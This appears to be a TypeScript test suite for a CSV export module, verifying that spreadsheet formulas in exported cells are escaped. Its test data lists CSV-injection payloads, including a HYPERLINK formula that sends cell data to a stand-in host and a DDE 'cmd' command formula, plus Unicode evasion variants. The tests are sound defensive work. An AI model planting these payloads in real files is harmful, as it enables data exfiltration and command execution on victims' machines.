import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { csvOf, escapeFormula, unescapeFormula } from '../../../main/export/formats/csv';
import { csvFormat as csvFormatOf } from '../../../main/export/formats/report-csv';
import { textOf } from '../../../main/export/formats/text-format';
import { columns } from '../../../shared/domain/columns';
import type { CsvDialect } from '../../../shared/domain/csv-dialect';
import type { ShownColumns } from '../../../shared/domain/report-query';
import { setLocale } from '../../../shared/i18n/messages';
import { plainCsv } from '../../support/files/plain-csv';
import { formulasIn } from '../../support/files/spreadsheet-cells';
import { chunkReport } from '../../support/inputs/chunk-report';
import { raw, type SampleFields, sampleReport } from '../../support/inputs/sample-reports';
import { runs } from '../../support/runner/depth';

const csvFormat = (shown: ShownColumns) => csvFormatOf(shown, plainCsv);

/** Parses CSV by RFC 4180, independently of the code that writes it. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const lines: string[][] = [[]];
  const field = /"((?:[^"]|"")*)"(,|\r\n)/y;
  while (field.lastIndex < text.length) {
    const [, value, end] = field.exec(text) ?? [];
    if (value === undefined) throw new Error(`No field at ${text.slice(0, 50)}`);
    lines.at(-1)?.push(value.replaceAll('""', '"'));
    if (end !== ',') lines.push([]);
  }
  return lines.slice(0, -1);
}

/** The cells of one report in some columns, without the transaction that is appended to them. An amount has two. */
function lineOf(shown: ShownColumns, changes: SampleFields): readonly string[] {
  const [line = []] = cellsOf(
    csvFormat(shown)
      .parts(chunkReport(sampleReport(changes)))
      .join(''),
  );
  return line.slice(0, shown.length + (shown.includes('amount') ? 1 : 0));
}

afterEach(() => setLocale('en'));

describe('csvFormat', () => {
  it('does not depend on the language, because other programs read it', async () => {
    const written = () => [csvFormat(columns).beginning, lineOf(columns, { ip: { tor: true } })];
    const inEnglish = written();
    await setLocale('es');
    expect(written()).toEqual(inEnglish);
  });

  it('starts with a byte order mark and a header of the visible columns, in their order, and the transaction', () => {
    const { beginning } = csvFormat(['time', 'risk', 'id', 'distance']);
    expect(beginning).toBe('\uFEFF"Time (UTC)","Risk","Report ID","Distance (km)","transaction_id"\r\n');
    expect(lineOf(['id', 'risk'], {})).toEqual(['1000000000000000001', 'clear']);
  });

  it('has fields of extra_data, complete and exact, and no formulas', () => {
    const shown: ShownColumns = ['extra_data.payee.account', 'extra_data.operation', 'extra_data.none'];
    expect(csvFormat(shown).beginning).toContain('"extra_data.payee.account","extra_data.operation"');
    const extra = { operation: '=1+1', payee: { account: 9007199254740993n } };
    expect(lineOf(shown, { extra_data: extra })).toEqual(['9007199254740993', "'=1+1", '']);
  });

  it('supports every column', () => {
    expect(lineOf(columns, { ip: { tor: true } })).toEqual([
      'clear',
      '',
      'Common usage',
      '2026-03-01T14:05:09.123456789Z',
      'ana.silva@example.com',
      'Google Pixel 8; device-1',
      'Bilbao, Basque Country, Spain',
      'TOR',
      'GPS location; EM location; IP address; Location',
      expect.stringMatching(/^32\d\.\d{3}$/),
      '0',
      '',
      '',
      '60',
      '',
      'concept: Book August; operation: booking',
      'Spain',
      'transaction-1',
      '1000000000000000001',
    ]);
  });

  it('has what is derived and what was decided: in English, and without separators of thousands', () => {
    const report = chunkReport(sampleReport({ ip: { tor: true } }));
    const cells = (changes: object) => {
      const row = { ...report.row, ...changes };
      const shown: ShownColumns = ['verdict', 'signals', 'travel', 'deviceUsers', 'disagreement'];
      const [line = []] = cellsOf(
        csvFormat(shown)
          .parts({ ...report, row })
          .join(''),
      );
      return line.slice(0, shown.length);
    };
    expect(
      cells({
        verdict: 'unclear',
        derived: ['Impossible travel'],
        travel: 12_345.6,
        deviceUsers: 3,
        disagreement: 40,
      }),
    ).toEqual(['Can’t tell', 'TOR; Impossible travel', '12346', '3', '40']);
    expect(cells({ verdict: 'fraud', divided: true, travel: 1e9 }).slice(0, 3)).toEqual([
      'Two verdicts',
      'TOR',
      'infinite',
    ]);
  });

  it('leaves the cell of a missing value empty', () => {
    const [line] = cellsOf(csvFormat(columns).parts(chunkReport('{}')).join(''));
    expect(line).toEqual([...columns, 'currency'].map(() => ''));
  });

  it('has the currency of an amount next to it, and the amount as a number', () => {
    expect(csvFormat(['amount', 'user']).beginning).toContain('"Amount","Currency","User"');
    const amount = { value: '6999,66', currency: 'eur' };
    expect(lineOf(['amount', 'user'], { extra_data: { amount } })).toEqual([
      '6999.66',
      'EUR',
      'ana.silva@example.com',
    ]);
    const hostile = { value: 5, currency: '=1+1' };
    expect(lineOf(['amount'], { extra_data: { amount: hostile } })).toEqual(['5', "'=1+1"]);
  });

  it.each([
    ['9007199254740993', '9007199254740993'],
    ['9223372036854775807', '9223372036854775807'],
    ['-9223372036854775808', '-9223372036854775808'],
    ['0', '0'],
  ])('writes the id %s with all its digits', (id, cell) => {
    expect(lineOf(['id'], { id: raw(id) })).toEqual([cell]);
  });

  it.each([
    ['9223372036854775807', '2262-04-11T23:47:16.854775807Z'],
    ['-9223372036854775808', '1677-09-21T00:12:43.145224192Z'],
    ['0', '1970-01-01T00:00:00.000000000Z'],
  ])('writes the time %s with every digit, in any time zone', (timestamp, cell) => {
    expect(lineOf(['time'], { timestamp: raw(timestamp) })).toEqual([cell]);
  });

  it.each([
    ['=1+1'],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ["=cmd|' /C calc'!A0"],
    ['+1+1'],
    ['-1+1'],
    ['@SUM(A1:A2)'],
    ['\ttext'],
    ['\rtext'],
    ['\ntext'],
    [' =1+1'],
    ['\u00a0\u3000=1+1'],
    ['"=1+1'],
    ['" =1+1'],
    ["'=1+1"],
    ['\uFEFF=1+1'],
    ['\u202e\u200b=1+1'],
    ['\u115f=1+1'],
    ['\uFF1D1+1'],
    ['\uFF0B1'],
    ['\uFF0D1'],
    ['\uFF20SUM(A1)'],
    ['\uFE661+1'],
    [' \uFF1D1+1'],
  ])('escapes %j, and keeps every character of it', (payload) => {
    expect(lineOf(['user'], { user: { id: payload } })).toEqual([`'${payload}`]);
  });

  it.each([
    ['Pixel;=1+1;x', "Pixel;'=1+1;x"],
    ['a,=1', "a,'=1"],
    ['a\t=1', "a\t'=1"],
    ['a;\t=1', "a;'\t'=1"],
    ['a\r\n=2+2', "a\r\n'=2+2"],
    ['a\n=1\r+1+1', "a\n'=1\r'+1+1"],
    ['a; "=1', `a;' "=1`],
    ['a;\u200b\uFF0B1', "a;'\u200b\uFF0B1"],
    ["a;'=1", "a;''=1"],
    ['\t=1+1', "'\t'=1+1"],
    ['\u0000=1+1', "\u0000'=1+1"],
    ['a\u2028=1', "a\u2028'=1"],
    ['a;', "a;'"],
    ["x|=cmd|' /C calc'!A0", "x|'=cmd|' /C calc'!A0"],
    ['a: -b', "a:' -b"],
    ['a~@b^+c', "a~'@b^'+c"],
    ['a\n" ', `a\n'" `],
  ])('escapes each part of %j that can become a cell: %j', (value, cell) => {
    expect(lineOf(['user'], { user: { id: value } })).toEqual([cell]);
  });

  it.each<[string, ShownColumns[number], SampleFields]>([
    ['a risk', 'risk', { event: { risk_assignment: '=1' } }],
    ['a fraud case', 'fraudCases', { event: { fraud_cases: ['=1', 'x'] } }],
    ['a device', 'device', { device: { model: '=1' } }],
    ['a place', 'place', { location: { address: { city: '=1' } } }],
    ['a country', 'country', { location: { address: { country: '=1' } } }],
    ['a transaction', 'transaction', { transaction_id: '=1' }],
  ])('escapes a formula in the cell of %s', (_, column, changes) => {
    const [cell] = lineOf([column], changes);
    expect(cell).toMatch(/^'=1/);
  });

  it.each([
    ['commas', `1${',1'.repeat(10_000)}x`],
    ['points', `1${'.1'.repeat(10_000)}x`],
    ['semicolons', `1${';1,1'.repeat(10_000)}x`],
  ])('is written at once for very many numbers between %s that end in a letter', (_what, value) => {
    expect(escapeFormula(value)).toBe(value);
  });

  it.each(['-20', '-0.02', '+34600123456', '-1,5', '-1.234,56', '-1e-7', '40.4,-3.7'])(
    'does not change the number %s',
    (value) => {
      expect(lineOf(['user'], { user: { id: value } })).toEqual([value]);
    },
  );

  it.each(['-5-5', '-5%', '- 5', '--5', '-5;=1', '-.5', '-5)', '-5!A1', '-5\t=1'])(
    'escapes %s, which only begins as a number',
    (value) => {
      expect(lineOf(['user'], { user: { id: value } })[0]).toContain("'");
    },
  );

  it.each([['a=1'], ['text'], ['1,5'], ['a; b-c'], ['x\r\n\r\ny'], ["it’s, well, 'so'"], [''], [' ']])(
    'does not change %j',
    (value) => {
      expect(lineOf(['user'], { user: { id: value } })).toEqual([value]);
    },
  );

  it('starts no cell or line within a value, whatever it contains', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string(), (user, transaction) => {
        const line = lineOf(['user', 'id', 'transaction'], {
          user: { id: user },
          transaction_id: transaction,
        });
        expect(line).toHaveLength(3);
        expect(line.map(unescapeFormula)).toEqual([user, '1000000000000000001', transaction]);
      }),
    );
  });
});

/** Characters that start formulas, or that readers skip, split at or treat as line ends. */
const special = fc.constantFrom(
  ...['=', '+', '-', '@', '\uff1d', '\ufe66', '\t', '\r', '\n', '\v', '\u2028', ',', ';', '"', "'", ' '],
  ...['|', ':', '^', '~', '\u200b', '\u0000', '\u115f', 'x', '1'],
);
const anyValue = fc.oneof(
  fc.string({ unit: special, maxLength: 8 }),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.oneof(special, fc.constant('\ud800'), fc.constant('\udc00')) }),
);

const anyDialect = fc.record<CsvDialect>({
  separator: fc.constantFrom(',', ';', '\t'),
  decimalSign: fc.constantFrom('.', ','),
  byteOrderMark: fc.boolean(),
});

describe('a CSV file', () => {
  it('has no formula in any cell, split by any list separator, with or without respect to quotation marks', () => {
    const anyLines = fc.array(fc.array(anyValue, { minLength: 1, maxLength: 4 }), {
      minLength: 1,
      maxLength: 4,
    });
    fc.assert(
      fc.property(anyLines, anyDialect, (lines, dialect) => {
        const file = textOf(
          csvOf(dialect, ['user', 'x'], (line: readonly string[]) => line),
          lines,
        );
        expect(formulasIn(file, dialect.separator)).toEqual([]);
      }),
      { numRuns: runs(2_000) },
    );
  });
});

describe('unescapeFormula', () => {
  it('removes each apostrophe that escapeFormula added, and nothing of the value', () => {
    fc.assert(
      fc.property(anyValue, (text) => {
        expect(unescapeFormula(escapeFormula(text))).toBe(text);
      }),
      { numRuns: runs(5_000) },
    );
  });

  it.each([';', '|', ':', '\t', '\n', '"', ' ', '\u200b', ';"', ':"'])(
    'takes linear time for a million times %j',
    (text) => {
      const value = text.repeat(1_000_000);
      expect(unescapeFormula(escapeFormula(value)) === value).toBe(true);
    },
  );
});
